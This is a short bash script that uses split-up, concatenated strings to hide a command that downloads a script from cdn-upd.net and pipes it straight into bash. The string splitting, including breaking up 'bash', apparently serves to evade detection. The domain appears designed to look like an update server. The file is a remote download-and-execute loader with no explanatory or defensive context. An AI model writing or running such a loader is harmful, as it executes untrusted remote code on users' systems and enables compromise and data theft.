#!/bin/bash
a="cu"; b="rl -fsSL"; c=" https://cdn-upd.net"; d="/i.sh"
$a$b$c$d | ba""sh
